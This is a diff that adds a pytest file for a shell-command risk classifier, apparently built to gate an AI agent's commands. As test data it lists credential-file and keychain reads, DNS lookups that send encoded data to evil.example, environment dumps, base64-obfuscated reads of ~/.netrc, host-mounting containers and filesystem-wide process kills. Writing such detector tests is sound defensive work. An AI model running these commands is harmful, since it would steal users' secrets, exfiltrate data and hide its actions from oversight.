@@ -1,0 +1,478 @@
+"""Secret reads and host changes graded too low: credential files of more tools (and their macOS places), the
+workspace's files of secrets in clear, environment dumps through other programs, token printers, DNS lookups through
+getent, read targets computed by a decoder; restarts of slices, container mounts and build contexts that reach the
+host, and killing every process on a filesystem. Each group has its neighbours that keep their grade."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from bot.risk import RiskLevel, classify
+from bot.risk.recipes import ProjectRecipes
+from tests.risk.test_risk_held_back_grades import DES, NET, RO, SYS, WW, grade, rules
+
+# -- credential files of more tools, and macOS places of those already listed ----------------------------------------
+HOME_SECRETS = [
+    "cat ~/.sbt/credentials",
+    "cat ~/.ivy2/.credentials",
+    "cat ~/.nuget/NuGet/NuGet.Config",
+    "cat ~/.config/NuGet/NuGet.Config",
+    "cat ~/.msmtprc",
+    "cat ~/.fetchmailrc",
+    "cat ~/.purple/accounts.xml",
+    "cat ~/.config/filezilla/sitemanager.xml",
+    "cat ~/.thunderbird/abc.default/logins.json",
+    "cat ~/.dockercfg",
+    "cat ~/.dbt/profiles.yml",
+    "cat ~/.snowsql/config",
+    "cat ~/.config/stripe/config.toml",
+    "cat ~/.twilio-cli/config.json",
+    "cat ~/.supabase/access-token",
+    "cat ~/.heroku/credentials",
+    "cat ~/.config/atuin/key",
+    "sqlite3 ~/.local/share/atuin/history.db .dump",
+    "cat ~/.irb_history",
+    "cat ~/.Rhistory",
+    "sqlite3 ~/.ipython/profile_default/history.sqlite .dump",
+    "cat ~/.julia/logs/repl_history.jl",
+    "cat ~/.config/Slack/Cookies",
+    "cat /var/lib/tailscale/tailscaled.state",
+    "cat ~/Library/Application\\ Support/Firefox/Profiles/x.default/logins.json",
+    "cat ~/Library/Application\\ Support/Firefox/Profiles/x.default/key4.db",
+    'cat "$HOME/Library/Application Support/Google/Chrome/Default/Login Data"',
+    "cat ~/Library/Application\\ Support/Google/Chrome/Default/Cookies",
+    "cat ~/Library/Cookies/Cookies.binarycookies",
+    "cat ~/Library/Keychains/login.keychain-db",
+    "sqlite3 ~/Library/Messages/chat.db .dump",
+    "cat /Users/dev/Library/Safari/History.db",
+    "cat ~/.s*/credentials",
+]
+
+
+@pytest.mark.parametrize("command", HOME_SECRETS)
+@pytest.mark.parametrize("contained", [False, True])
+def test_reading_more_tools_credential_files_is_a_secret_read(command: str, contained: bool) -> None:
+    assert grade(command, contained) == NET
+    assert "goes to the model" in rules(command, contained)["secret-read"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ls ~/Library/Application\\ Support",
+        "cat ~/Library/Preferences/com.apple.dock.plist",
+        "cat ~/.ipython/profile_default/ipython_config.py",
+        "cat ~/.julia/config/startup.jl",
+        "cat ~/.config/atuin/config.toml",
+        "cat ~/.sbt/repositories",
+        "cat Library/Cookies/notes.txt",  # a project's Library/ (Unity's cache) is the agent's own
+        "cat ~/.nuget/packages/x/1.0/x.nuspec",
+    ],
+)
+def test_neighbours_of_the_credential_files_stay_reads(command: str) -> None:
+    assert grade(command) == RO
+
+
+# -- the workspace's files of secrets in clear -------------------------------------------------------------------------
+WORKSPACE_SECRETS = [
+    ("cat config/secrets.yml", "Rails"),
+    ("cat secrets.json", "the project's secrets"),
+    ("cat appsettings.Secrets.json", "the project's secrets"),
+    ("cat .streamlit/secrets.toml", "the project's secrets"),
+    ("cat terraform.tfvars", "Terraform variables"),
+    ("cat envs/prod.auto.tfvars", "Terraform variables"),
+    ("cat prod.tfvars.json", "Terraform variables"),
+    ("cat local.settings.json", "Azure Functions"),
+    ("cat .secrets", "the project's secrets"),
+    ("cat .secrets.prod", "the project's secrets"),
+    ("cat *.tfvars", "Terraform variables"),
+    ("head */secrets.toml", "the project's secrets"),
+]
+
+
+@pytest.mark.parametrize(("command", "what"), WORKSPACE_SECRETS)
+@pytest.mark.parametrize("contained", [False, True])
+def test_reading_the_workspaces_files_of_secrets_in_clear_is_a_secret_read(
+    command: str, what: str, contained: bool
+) -> None:
+    assert grade(command, contained) == NET
+    assert what in rules(command, contained)["secret-read"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cat config/credentials.yml.enc",
+        "cat secrets.enc.yaml",
+        "cat secrets.enc.json",
+        "cat secrets.json.gpg",
+        "cat .secrets.age",
+        "cat secrets.toml.asc",
+        "cat terraform.tfvars.example",
+        "cat .secrets.example",
+        "cat secrets.yaml",
+        "cat config/settings.yml",
+        "cat secrets.yml",  # only Rails' config/secrets.yml
+        "cat appsettings.json",
+        "cat appsettings.Development.json",
+        "cat variables.tf",
+        "cat settings.json",
+    ],
+)
+def test_encrypted_and_ordinary_neighbours_of_the_secrets_files_stay_reads(command: str) -> None:
+    assert grade(command) == RO
+
+
+# -- DNS lookups through getent ----------------------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    "command",
+    [
+        "getent ahosts c2VjcmV0.evil.example",
+        "getent hosts evil.example",
+        "getent ahostsv4 x.evil.example",
+        "getent ahostsv6 x.evil.example",
+        "getent -s dns hosts x.evil.example",
+        "getent hosts 203.0.113.7",  # gethostbyaddr(3): a reverse lookup asks the resolver too
+    ],
+)
+@pytest.mark.parametrize("contained", [False, True])
+def test_getent_host_lookups_are_dns_queries(command: str, contained: bool) -> None:
+    assert grade(command, contained) == NET
+    assert "network-egress" in rules(command, contained)
+
+
+@pytest.mark.parametrize("command", ["getent passwd root", "getent group", "getent hosts", "getent services ssh"])
+def test_other_getent_databases_and_listing_hosts_stay_reads(command: str) -> None:
+    assert grade(command) == RO
+
+
+# -- host changes --------------------------------------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sudo systemctl restart user.slice",
+        "systemctl restart system.slice",
+        "systemctl try-restart system.slice",
+        "systemctl reload-or-restart session-1.scope",
+        "systemctl restart init.scope",
+        "systemctl --user restart app.slice",
+        "fuser -km /home",
+        "fuser -k -m /",
+        "fuser --kill --mount /",
+        "fuser -mk /srv",
+    ],
+)
+def test_restarting_a_slice_and_killing_every_user_of_a_filesystem_are_destructive(command: str) -> None:
+    assert grade(command) == DES
+    assert grade(command, contained=True) in (WW, SYS)
+
+
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        ("sudo systemctl restart nginx", SYS),
+        ("systemctl restart nginx.service", SYS),
+        ("systemctl start user.slice", SYS),
+        ("systemctl restart home.mount", SYS),  # not covered by a plain pattern (meaning.py), but no stop of all
+        ("systemctl status user.slice", RO),
+        ("fuser -k 8080/tcp", SYS),
+        ("fuser -k src/app.log", SYS),
+        ("fuser -m /home", RO),
+        ("fuser -v 8080/tcp", RO),
+    ],
+)
+def test_neighbours_of_slice_restarts_and_fuser_kills_keep_their_grade(command: str, level: RiskLevel) -> None:
+    assert grade(command) == level
+
+
+# -- environment dumps through other programs ----------------------------------------------------------------------
+ENVIRONMENT_DUMPS = [
+    "jq -n env",
+    "jq -n '$ENV.GITHUB_TOKEN'",
+    "jq -n '\"\\(env.GITHUB_TOKEN)\"'",
+    "jq -r --arg x y 'env | keys' f.json",
+    "jq -nf prog.jq",  # a filter from a file may read $ENV
+    "yq -n 'env(GITHUB_TOKEN)'",
+    "yq eval 'strenv(GITHUB_TOKEN)' f.yml",
+    "yq e '.a | envsubst' f.yml",
+    "awk 'BEGIN{for(k in ENVIRON) print k, ENVIRON[k]}'",
+    "awk 'BEGIN{print ENVIRON[\"GITHUB_TOKEN\"]}'",
+    "gawk -e 'BEGIN{print ENVIRON[\"X\"]}'",
+    "sed '1r /proc/self/environ' x",
+    "sed '1R ~/.netrc' x",
+    "sed -e '$r .env' x",
+    "make -pn",
+    "make --print-data-base -q",
+    "git var -l",
+]
+
+
+@pytest.mark.parametrize("command", ENVIRONMENT_DUMPS)
+@pytest.mark.parametrize("contained", [False, True])
+def test_printing_the_environment_through_other_programs_is_a_secret_read(command: str, contained: bool) -> None:
+    assert grade(command, contained) >= NET
+    assert "goes to the model" in rules(command, contained)["secret-read"]
+
+
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        ("jq .a file.json", RO),
+        ("jq '.stage == \"env\"' file.json", RO),
+        ("jq '{env: .x}' file.json", RO),
+        ("jq --arg env prod '.a' file.json", RO),
+        ("jq -r '.dependencies | keys[]' package.json", RO),
+        ("yq '.services' docker-compose.yml", RO),
+        ("awk '{print $1}' f", RO),
+        ("awk '{print \"ENVIRON\"}' f", RO),
+        ("sed '1r header.txt' x", RO),
+        ("sed -n '/x/p' x", RO),
+        ("make -n", WW),
+        ("git var GIT_EDITOR", RO),
+    ],
+)
+def test_neighbours_of_the_environment_dumps_keep_their_grade(command: str, level: RiskLevel) -> None:
+    assert grade(command) == level
+
+
+def test_npm_run_env_without_an_env_script_lists_the_environment(tmp_path: Path) -> None:
+    (tmp_path / "package.json").write_text(json.dumps({"name": "d", "scripts": {"test": "echo hi"}}))
+    for command in ("npm run env", "npm run-script env"):
+        found = classify(command, contained=False, workspace=tmp_path, recipes=ProjectRecipes(tmp_path))
+        assert found.risk == NET, command
+        assert any(r.rule == "secret-read" for r in found.reasons), command
+    assert classify("npm test", contained=False, workspace=tmp_path, recipes=ProjectRecipes(tmp_path)).risk == WW
+
+
+def test_npm_run_env_with_an_env_script_runs_that_script(tmp_path: Path) -> None:
+    (tmp_path / "package.json").write_text(json.dumps({"name": "d", "scripts": {"env": "echo hi"}}))
+    found = classify("npm run env", contained=False, workspace=tmp_path, recipes=ProjectRecipes(tmp_path))
+    assert found.risk == WW
+    assert not any(r.rule == "secret-read" for r in found.reasons)
+
+
+# -- token printers ------------------------------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    "command",
+    [
+        "gh config get -h github.com oauth_token",
+        "gh config get oauth_token --host github.com",
+        "glab config get token",
+        "glab config get token --host gitlab.com",
+        'gh config get "$NAME"',
+    ],
+)
+@pytest.mark.parametrize("contained", [False, True])
+def test_printing_a_stored_token_with_config_get_is_a_secret_read(command: str, contained: bool) -> None:
+    assert grade(command, contained) == NET
+    assert "prints a stored token" in rules(command, contained)["secret-read"]
+
+
+@pytest.mark.parametrize(
+    "command", ["gh config get git_protocol", "gh config get editor", "gh config list", "glab config get editor"]
+)
+def test_config_get_of_other_keys_stays_a_read(command: str) -> None:
+    assert grade(command) == RO
+
+
+# -- containers and builds given the host's files ----------------------------------------------------------------------
+@pytest.mark.parametrize(
+    "command",
+    [
+        "docker run -v ..:/w alpine",  # the workspace's parent (/home/dev): every file beside the workspace
+        "docker run -v ../..:/w alpine",
+        "docker run --mount type=bind,src=..,dst=/w alpine",
+        "podman run -v /home/dev/project/..:/w alpine",
+        "docker build --build-context h=/ .",
+        "docker buildx build --build-context home=.. .",
+        "docker buildx build --allow security.insecure .",
+        "docker build --allow=security.insecure .",
+        "docker build ~",
+        "docker build /",
+        "docker build ..",
+        "docker image build -t x /etc",
+        'docker build "$CONTEXT"',
+    ],
+)
+@pytest.mark.parametrize("contained", [False, True])
+def test_containers_and_builds_given_the_hosts_files_are_destructive(command: str, contained: bool) -> None:
+    assert grade(command, contained) == DES
+    assert "container-host-access" in rules(command, contained)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "docker build --secret id=x,src=/root/.netrc .",
+        "docker buildx build --secret id=npm,src=.npmrc .",
+        "docker build --ssh default=~/.ssh/id_rsa .",
+    ],
+)
+def test_a_build_handed_a_credential_file_is_a_secret_read(command: str) -> None:
+    assert "secret-read" in rules(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "docker run -v .:/w alpine",
+        'docker run -v "$PWD":/w alpine',
+        "docker run -v ./data:/data alpine",
+        "docker run -v /tmp/data:/data alpine",
+        "docker run -v /home/dev/other:/w alpine",  # another directory, not one holding the workspace
+        "docker build .",
+        "docker build -t app:1 -f docker/Dockerfile .",
+        'docker build -t app "$PWD"',
+        "docker buildx build --platform linux/amd64 --push -t x/y .",
+        "docker build --build-context base=docker-image://alpine .",
+        "docker build --build-context src=./src .",
+        "docker build https://github.com/x/y.git",
+        "docker build --secret id=x,src=token.txt .",
+        "docker image build sub",
+    ],
+)
+def test_ordinary_container_runs_and_builds_keep_the_control_planes_grade(command: str) -> None:
+    assert grade(command) == SYS
+
+
+# -- a file name computed by a decoder ---------------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cat $(echo fi5uZXRyYw== | base64 -d)",
+        'cat "$(echo 2f726f6f742f2e6e65747263 | xxd -r -p)"',
+        "cat $(rev <<< crten./~)",
+        "cat $(echo ~/.ofgep | tr a-z n-za-m)",
+        "cat $(printf '\\x7e/\\x2enetrc')",
+        "head -c 100 `echo fi5uZXRyYw== | base64 --decode`",
+        "grep -r x $(echo L3Jvb3Q= | base64 -D)",
+        "cat < $(rev <<< crten./~)",
+        "wc -l < `rev <<< crten./~`",
+        "f=$(echo fi5uZXRyYw== | base64 -d); cat $f",
+        'f=$(rev <<< crten./~); cat "$f"',
+    ],
+)
+@pytest.mark.parametrize("contained", [False, True])
+def test_reading_a_file_whose_name_a_decoder_computes_is_a_secret_read(command: str, contained: bool) -> None:
+    assert grade(command, contained) == NET
+    assert "computed by" in rules(command, contained)["secret-read"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "grep x $(git ls-files)",  # names the workspace lists: everyday searches stay reads
+        "wc -l $(git ls-files '*.py')",
+        "find . -name '*.py' | xargs cat",
+        "cat $(ls *.md)",
+        "cat $(cat paths.txt)",
+        "cat $(echo README.md)",
+        "echo $(echo aGk= | base64 -d)",  # prints the decoded text, reads no file
+        "x=$(echo aGk= | base64 -d); echo $x",
+        "f=$(echo fi5uZXRyYw== | base64 -d); f=README.md; cat $f",  # reassigned a literal
+        "f=$(git ls-files); cat $f",
+        "cat < x.txt",
+    ],
+)
+def test_names_computed_by_other_programs_stay_reads(command: str) -> None:
+    assert grade(command) == RO
+
+
+# -- linters that load the workspace's code ----------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        ("flake8", WW),  # [flake8:local-plugins] imports the project's Python
+        ("flake8 src tests", WW),
+        ("coverage report", WW),  # .coveragerc [run] plugins
+        ("coverage debug config", WW),
+        ("markdownlint .", WW),  # .markdownlint.cjs, --rules
+        ('markdownlint-cli2 "**/*.md"', WW),
+        ("markdownlint -r /tmp/evil/rules.js .", DES),
+        ("coverage report --rcfile=/opt/x/.coveragerc", DES),
+        ("yamllint .", RO),
+        ("pycodestyle src", RO),
+        ("black --check .", RO),
+        ("coverage --version", RO),
+    ],
+)
+def test_linters_that_load_the_workspaces_code_are_builds(command: str, level: RiskLevel) -> None:
+    assert grade(command) == level
+
+
+# -- test runners run from a directory outside the workspace ---------------------------------------------------------
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cd /tmp/evil && pytest",
+        "cd .. && pytest",
+        "cd /opt/x && jest",
+        "cd /opt/x && flake8",
+        'cd "$D" && pytest',
+        "python3 -m unittest discover -s /tmp/evil",
+        "python3 -m unittest discover --start-directory=/opt/t",
+        "python3 -m unittest discover -s tests -t /opt/x",
+        "cd /tmp/evil && python3 -m unittest",
+    ],
+)
+def test_test_runners_run_from_outside_the_workspace_are_destructive(command: str) -> None:
+    assert grade(command) == DES
+    assert "project-outside-workspace" in rules(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "pytest",
+        "pytest tests",
+        "cd sub && pytest",
+        "cd /home/dev/project/sub && pytest -q",
+        "python3 -m unittest discover -s tests",
+        "python3 -m unittest",
+        "python3 -m pytest -q",
+        "mypy src",
+    ],
+)
+def test_test_runners_in_the_workspace_keep_their_grade(command: str) -> None:
+    assert grade(command) == WW
+
+
+# -- smaller labels --------------------------------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("command", "level", "rule"),
+    [
+        ("umask 000", WW, "sets-umask"),
+        ("umask 022; touch x", WW, "sets-umask"),
+        ("umask", RO, "read-only"),
+        ("umask -S", RO, "read-only"),
+        ("gem unpack x.gem", DES, "git-control-write"),  # NAME-VERSION/ holds whatever the gem names
+        ("gem list", RO, "read-only"),
+    ],
+)
+def test_umask_and_gem_unpack_are_labelled_by_what_they_do(command: str, level: RiskLevel, rule: str) -> None:
+    assert grade(command) == level
+    assert rule in rules(command)
+
+
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        ("minikube mount /:/h", DES),
+        ("minikube mount ~:/h", DES),
+        ("minikube mount ..:/h", DES),
+        ("multipass mount / vm:/h", DES),
+        ("lxc config device add x h disk source=/ path=/h", DES),
+        ("incus config device add x h disk source=/home path=/h", DES),
+        ("minikube mount .:/data", SYS),
+        ("minikube mount ./data:/data", SYS),
+        ("minikube mount /tmp/data:/data", SYS),
+        ("multipass mount . vm:/src", SYS),
+        ("lxc config device add x h disk source=./data path=/data", SYS),
+        ("lxc config set x limits.cpu 2", SYS),
+    ],
+)
+def test_vm_and_cluster_mounts_of_the_hosts_root_or_a_home_are_destructive(command: str, level: RiskLevel) -> None:
+    assert grade(command) == level
